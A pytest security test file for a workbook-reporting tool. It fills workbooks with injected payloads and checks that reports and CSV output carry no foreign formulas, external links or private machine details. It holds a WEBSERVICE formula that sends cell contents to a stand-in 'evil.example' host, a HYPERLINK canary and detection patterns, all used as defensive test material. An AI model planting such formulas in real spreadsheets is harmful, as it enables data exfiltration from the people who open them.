"""Texts of inputs are only ever texts, the whole way from a workbook to a report and to csv (SEC-1 to 4, 19, 22)."""

from __future__ import annotations

import csv
import getpass
import io
import os
import re
import socket
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
import xlsxwriter
from click.testing import CliRunner
from openpyxl import load_workbook

from tests.support.hostile import PAYLOADS
from tests.support.packages import MAIN, RELATIONSHIP_ID, Package
from tests.support.reports import SAMPLES, Built, build
from xlperf.definitions.indicator import plain_code
from xlperf.definitions.load import load
from xlperf.definitions.returns import ColumnDefinition, TableDefinition
from xlperf.hosts.cli import commands
from xlperf.sheets.layout import Layout
from xlperf.workbook.writing.formulas import stored_formula
from xlperf.workbook.writing.names import sheet_name
from xlperf.workbook.writing.texts import plain_text

SOUND: dict[str, str | float] = {
    "unit": "percent", "polarity": "low", "scheme": "brag", "timing": "flow", "kind": "actual", "ages": "0-17",
    "numerator": 33.0, "denominator": 246.0, "target": 10.0, "year": 2009.0, "population": 50_890.0,
    "count": 3.0, "percent": 5.0, "places": 1.0, "per": 10_000.0, "data_only": "no", "as_at": "2010-01",
    "date": "24/02/2012", "red_limit": 16.0, "value": 13.4,
}  # fmt: skip
"""What stands in a column that must be right for its row to be read at all; every other column holds the payload."""
LOADED = '=WEBSERVICE("http://evil.example/?"&A1)'
TEMPTING = re.compile(r"'*(?:[\t\r\n]|\s*[=+\-@＝＋－＠])")


def hostile_workbook(path: Path, payload: str) -> Path:
    """Write a performance workbook with the payload in every cell that takes any text, and a formula for a number."""
    payload = as_written(payload)
    short = code_of(payload)
    with xlsxwriter.Workbook(str(path)) as book:
        for table in load().returns["performance"].tables:
            sheet = book.add_worksheet(table.name)
            headings = [column.heading for column in table.columns] + [f"{payload} in a heading"]
            if table.period_columns:
                headings += ["Dec 2009", "Jan 2010"]
            for column, heading in enumerate(headings):
                sheet.write_string(0, column, heading)
            for number, (item, part) in enumerate(rows_of(table, payload), start=1):
                for column, cell in enumerate([*table.columns, None]):
                    value = value_for(cell, table.key, payload, short)
                    if cell and cell.key in ("item", "part"):
                        value = (item if cell.key == "item" else part) or value
                    if cell and cell.key == "numerator":
                        sheet.write_formula(number, column, LOADED, None, value)
                    elif isinstance(value, float):
                        sheet.write_number(number, column, value)
                    else:
                        sheet.write_string(number, column, value)
                if table.period_columns:
                    counts = (30, 31) if part == "numerator" else (240, 245)
                    sheet.write_row(number, len(table.columns) + 1, counts)
        book.add_worksheet(sheet_name(f"{payload} sheet")).write_string(0, 0, payload)
    return path


def as_written(payload: str) -> str:
    """Return a payload as an input can hold it: nothing that XML lacks or xlsxwriter takes for markup."""
    payload = re.sub("[\ud800-\udfff\ufffe\uffff]", "?", payload)
    return f"{payload}." if payload.startswith("<r>") else payload


def rows_of(table: TableDefinition, payload: str) -> list[tuple[str, str]]:
    """Return the item and the part that each row of a table has: every item of About, both counts by month."""
    if table.items:
        dates = ("prepared_on", "date")
        return [*((item.name, "") for item in table.items if item.key not in dates), (payload, "")]
    return [("", "numerator"), ("", "denominator")] if table.period_columns else [("", "")]


def code_of(payload: str) -> str:
    """Return a code that names the measure whose code is the payload, or K where it has neither letter nor digit."""
    return plain_code(payload) or "K"


def value_for(column: ColumnDefinition | None, table: str, payload: str, short: str) -> str | float:
    if column is None:
        return payload
    if column.key == "code":
        return (payload if plain_code(payload) else f"K{payload}") if table == "measures" else short
    if column.key == "period":
        return {"commentary": "2010-01", "figures": "2009/10 to 2010-01"}.get(table, "2009/10")
    if column.key == "area" and table in ("figures", "figures_wide", "targets", "populations"):
        return ""
    if table == "commentary" and column.key == "text":
        return f"{payload}\n{payload}"
    return SOUND.get(column.key, payload)


@pytest.fixture(scope="module", params=PAYLOADS, ids=range(len(PAYLOADS)))
def attacked(request, tmp_path_factory) -> tuple[str, Path, Built, Package]:
    """A payload, the workbook that holds it everywhere, and the report made of that."""
    folder = tmp_path_factory.mktemp("attacked")
    source = hostile_workbook(folder / "=1+1 %s%n{0}{file} ‮.xlsx", request.param)
    built = build(folder / "report.xlsx", [source], "2010-01")
    return request.param, source, built, Package.read(built.path)


def own_formulas(layout: Layout) -> list[str]:
    cells = [cell for sheet in layout.sheets for _, cell in sorted(sheet.cells.items())]
    return [stored_formula(cell.formula).removeprefix("=") for cell in cells if cell.formula]


def test_the_payloads_reach_the_report(attacked):
    payload, _, built, package = attacked
    shown = " ".join(plain_text(as_written(payload)).split())
    texts = {" ".join(re.sub("_x005F_(?=x[0-9A-F]{4}_)", "_", text).split()) for text in package.strings}
    assert built.content.lines
    if shown:  # control characters alone are nothing to show
        assert any(shown in text for text in texts)


def test_the_report_holds_no_formula_but_xlperfs_own(attacked):
    _, _, built, package = attacked
    assert package.formulas == own_formulas(built.layout)
    assert len(package.formulas) > 15
    assert not [formula for formula in package.formulas if re.search("evil|cmd|HYPERLINK|WEBSERVICE|http", formula)]


def test_the_report_leads_nowhere_but_to_its_own_sheets(attacked):
    _, _, _, package = attacked
    assert package.external_targets == []
    assert not [name for name in package.parts if re.search("external|connection|queryTable|vba|oleObject", name, re.I)]
    for name in package.sheet_names:
        for link in package.sheet(name).iter(f"{MAIN}hyperlink"):
            assert RELATIONSHIP_ID not in link.attrib
            assert link.attrib["location"].rpartition("!")[0].strip("'") in package.sheet_names


def test_charts_names_and_input_rules_point_only_at_the_reports_own_cells(attacked):
    _, _, _, package = attacked
    sheets = [re.escape(name) for name in package.sheet_names]
    own = re.compile(
        rf"'?(?:{'|'.join(sheets)})'?!\$[A-Z]+\$?\d+(?::\$[A-Z]+\$?\d+)?|'?(?:{'|'.join(sheets)})'?!\$\d+:\$\d+"
    )
    charts = [
        text for name in package.named("xl/charts/chart") for text in re.findall("<c:f>(.*?)</c:f>", package.text(name))
    ]
    names = [one.text for one in package.xml("xl/workbook.xml").iter(f"{MAIN}definedName")]
    assert charts
    assert [text for text in (*charts, *names) if not own.fullmatch(text)] == []
    for name in package.sheet_names:
        rules = list(package.sheet(name).iter(f"{MAIN}dataValidation"))
        limits = [limit.text for rule in rules for kind in ("formula1", "formula2") for limit in rule.iter(MAIN + kind)]
        assert [limit for limit in limits if not re.fullmatch(r"-?\d+", limit)] == []


def test_no_code_gets_into_a_page_margin(attacked):
    _, _, _, package = attacked
    for name in package.sheet_names:
        margins = [*package.sheet(name).iter(f"{MAIN}oddHeader"), *package.sheet(name).iter(f"{MAIN}oddFooter")]
        for margin in margins:
            unescaped = re.sub("_x([0-9A-Fa-f]{4})_", lambda found: chr(int(found[1], 16)), margin.text)
            codes = re.findall('&("[^"]*"|[0-9]+|K[0-9A-F]{6}|.)', unescaped.replace("&&", ""))
            assert set(codes) <= {"L", "R", '"Arial,Regular"', "8", "K595959", "P", "N"}


def test_the_csv_of_the_figures_gives_no_text_that_a_spreadsheet_takes_for_a_formula(attacked):
    payload, source, _, _ = attacked
    run = CliRunner().invoke(commands, ["figures", str(source), "--period", "2010-01", "--csv"])
    assert run.exit_code in (0, 1), run.output
    headings, *rows = csv.reader(io.StringIO(run.stdout))
    assert rows
    texts = [(heading, text) for row in rows for heading, text in zip(headings, row, strict=True)]
    numbers = {"numerator", "denominator", "value", "target", "percent_adrift", "lower", "upper"}
    assert [pair for pair in texts if pair[0] not in numbers and TEMPTING.match(pair[1]) and pair[1][0] != "'"] == []
    titles = [text for heading, text in texts if heading == "title"]
    if TEMPTING.match(payload) and payload.strip():
        assert all(title.startswith("'") for title in titles)


def test_a_negative_number_in_the_csv_stays_a_number():
    source = str(SAMPLES / "derby_performance.xlsx")
    run = CliRunner().invoke(commands, ["figures", source, "--period", "2012-02-19", "--csv"])
    rows = list(csv.DictReader(io.StringIO(run.stdout)))
    (plans,) = [row for row in rows if row["indicator"] == "EI&ISS PM04"]
    assert plans["percent_adrift"].startswith("-0.2")


# Children's records


CANARY = "CANARY-NAME-7"


@pytest.fixture(scope="module")
def canary_return(tmp_path_factory) -> Built:
    """A report of an Annex A workbook in which texts that stand for anything hold a formula with a name in it."""
    folder = tmp_path_factory.mktemp("canary")
    book = load_workbook(SAMPLES / "annex_a.xlsx")
    sheet = next(sheet for sheet in book.worksheets if "7" in sheet.title)
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            if isinstance(cell.value, str):
                cell.value = f'=HYPERLINK("http://evil.example/","{CANARY}")'
                cell.data_type = "s"
    path = folder / "annex_a.xlsx"
    book.save(path)
    return build(folder / "report.xlsx", [path], "2026-09")


def test_no_text_of_a_childs_record_gets_into_a_report(canary_return):
    package = Package.read(canary_return.path)
    assert package.formulas == own_formulas(canary_return.layout)
    assert [name for name, part in package.parts.items() if CANARY.encode() in part or b"evil" in part] == []


# What a report says of where it was made


def private_words(folder: Path) -> Iterator[str]:
    yield from (getpass.getuser(), socket.gethostname(), str(Path.home()), str(folder), str(Path.cwd()))


def test_no_report_names_the_user_the_machine_or_a_folder(tmp_path):
    home, here, out = tmp_path / "CANARY-home", tmp_path / "CANARY-here", tmp_path / "CANARY-out"
    home.mkdir()
    here.mkdir()
    names = ("USER", "LOGNAME", "USERNAME", "COMPUTERNAME", "HOSTNAME", "USERDOMAIN")
    surroundings = {**os.environ, **dict.fromkeys(names, "CANARY-name"), "HOME": str(home), "USERPROFILE": str(home)}
    root = Path(__file__).parents[2]
    surroundings["PYTHONPATH"] = str(root)
    command = [sys.executable, "-m", "xlperf.hosts.cli", "demo", "--out", str(out)]
    subprocess.run(command, cwd=here, env=surroundings, check=True, capture_output=True)
    written = sorted(out.iterdir())
    assert len(written) == 5
    words = {*private_words(tmp_path), str(root), str(root.parent)}
    for path in written:
        for name, part in Package.read(path).parts.items():
            text = f"{name}\n{part.decode('utf-8')}"
            assert "CANARY" not in text, name
            assert [one for one in words if re.search(rf"(?<![\w]){re.escape(one)}(?!\w)", text)] == [], name
